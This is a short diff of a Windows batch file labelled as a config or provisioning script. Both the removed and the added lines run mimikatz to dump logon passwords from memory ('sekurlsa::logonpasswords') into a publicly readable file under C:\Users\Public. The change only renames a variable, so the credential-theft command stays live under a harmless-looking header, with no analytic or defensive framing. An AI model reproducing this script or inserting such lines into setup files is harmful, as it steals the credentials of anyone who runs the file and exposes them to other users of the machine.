@@ -1,4 +1,4 @@
-REM config 5249 v0
+REM provision 3807 v0
 @echo off
-set zlmy=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\Users\Public\m.txt
-call %zlmy%
+set mjeb=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\Users\Public\m.txt
+call %mjeb%
